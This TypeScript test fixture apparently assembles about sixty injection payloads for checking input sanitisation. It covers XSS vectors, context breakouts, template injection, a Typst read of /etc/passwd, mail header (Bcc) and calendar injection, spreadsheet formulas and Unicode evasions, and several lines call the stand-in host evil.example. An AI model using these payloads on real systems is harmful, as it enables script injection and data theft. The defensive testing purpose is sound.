/** Short, so that the sixty fit a field of 2,000 characters together. */
const run = 'fired=1';
const tags = ['script', 'img', 'svg', 'iframe', 'body', 'details', 'video', 'math', 'a', 'form', 'style', 'base', 'meta', 'object', 'embed', 'link', 'input', 'marquee', 'template', 'dialog'] as const;
const shapes: Readonly<Record<(typeof tags)[number], string>> = {
  script: `<script>${run}</script>`,
  img: `<img src=x onerror=${run}>`,
  svg: `<svg onload=${run}>`,
  iframe: `<iframe srcdoc="<script>parent.fired=1</script>">`,
  body: `<body onload=${run}>`,
  details: `<details open ontoggle=${run}>`,
  video: `<video><source onerror=${run}>`,
  math: `<math><a xlink:href="javascript:${run}">x`,
  a: `<a href="javascript:${run}">x</a>`,
  form: `<form action="javascript:${run}"><button>x`,
  style: `<style>*{background:url(https://evil.example/x)}</style>`,
  base: `<base href="https://evil.example/">`,
  meta: `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  object: `<object data="javascript:${run}">`,
  embed: `<embed src="data:text/html,<script>${run}</script>">`,
  link: `<link rel=stylesheet href=https://evil.example/x.css>`,
  input: `<input autofocus onfocus=${run}>`,
  marquee: `<marquee onstart=${run}>`,
  template: `<template shadowrootmode=open><script>${run}</script></template>`,
  dialog: `<dialog open onpointerover=${run}>x`,
};
/** Ways out of where a text stands: an attribute, an element, a script, a comment, a data block. */
const exits = ['">', "'>", '</title>', '</textarea>', '</style>', '</script>', '-->', ']]>', '</option></select>', '\u2028</script>', '`>', '\\">'].map((exit) => `${exit}<img src=x onerror=${run}>`);
/** What other readers than a browser would run: templates, Typst, calendars, mails, sheets, entities, other alphabets. */
const languages = [
  '{{constructor.constructor("fired=1")()}}', '${fired=1}', '<%= 7*7 %>', '#{7*7}', '#panic("x") #eval("1") *gras* $ x $', '#link("javascript:fired=1")[x]', '#read("/etc/passwd") @ref <label>',
  'x\r\nATTACH:https://evil.example/x', 'x\nEND:VEVENT\nBEGIN:VALARM', 'X;VALUE=URI:javascript:fired=1', 'x\r\nBcc: x@evil.example', '=HYPERLINK("https://evil.example")', '@SUM(1+1)', '&lt;script&gt;fired=1&lt;/script&gt;', '&#60;img src=x onerror=fired=1&#62;',
  '%3Cscript%3Efired=1%3C/script%3E', '\\u003cscript\\u003efired=1', '\uff1cscript\uff1efired=1\uff1c/script\uff1e', '<ſcript>fired=1</ſcript>', '\u202e<script>fired=1</script>\u202c', '<img src=x onerror=fired=1//\u2067', 'javascript:fired=1', 'data:text/html,<script>fired=1</script>',
  '<scr\0ipt>fired=1</scr\0ipt>', '<<script>fired=1//<</script>', '<img/src/onerror=fired=1>', '<svg><script>fired=1</script></svg>', '__proto__',
];

/** Sixty texts that would run, fetch or forge something in a page, a letter, a printed page or a calendar that took them for more than words. */
export const payloads: readonly string[] = [...tags.map((tag) => shapes[tag]), ...exits, ...languages];

const asKept = (text: string): string => text.replace(/[\p{Cc}\p{Cf}\p{Co}\p{Cs}]/gu, ' ').replace(/[\uff1c\uff1e\uff0f]/g, (wide) => String.fromCharCode(wide.charCodeAt(0) - 0xfee0)).trim();
const kept = payloads.map(asKept);
/** Which payloads a text holds, by their place; marks that nobody sees and wide brackets left aside, as fields that refuse them are written. */
export function heldIn(text: string): number[] {
  const whole = asKept(text);
  return kept.flatMap((payload, place) => (whole.includes(payload) ? [place] : []));
}

/** The payloads in as few texts as fit a field of `longest` characters. */
export function batches(longest: number): string[] {
  const texts: string[] = [];
  let text = '';
  for (const payload of payloads) {
    if (text !== '' && text.length + 1 + payload.length > longest) {
      texts.push(text);
      text = '';
    }
    text = text === '' ? payload : `${text} ${payload}`;
  }
  return [...texts, text];
}
